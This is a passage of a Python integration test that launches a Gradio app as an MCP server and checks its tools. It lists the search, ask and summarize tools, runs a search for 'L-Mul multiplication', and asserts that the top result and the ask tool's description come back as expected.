        async with streamablehttp_client(f"{url}/gradio_api/mcp/") as (read, write, _):
            async with ClientSession(read, write) as session:
                await session.initialize()
                tools = await session.list_tools()
                ask = next(t for t in tools.tools if t.name == "ask")
                found = await session.call_tool("search", {"query": "L-Mul multiplication", "k": 3})
                text = "".join(getattr(part, "text", "") for part in found.content)
                return {t.name for t in tools.tools}, ask.description or "", text

    with serving(env, tmp_path, "--mcp") as (url, _), ThreadPoolExecutor(1) as pool:
        # A loop of its own: Playwright's may be running in this thread.
        names, description, text = pool.submit(asyncio.run, use(url)).result(timeout=120)
    assert {"search", "ask", "summarize"} <= names
    assert "citing the paper" in description  # the docstring is the tool's description
    assert LMUL in text and jsonlib.loads(text)["results"][0]["rank"] == 1
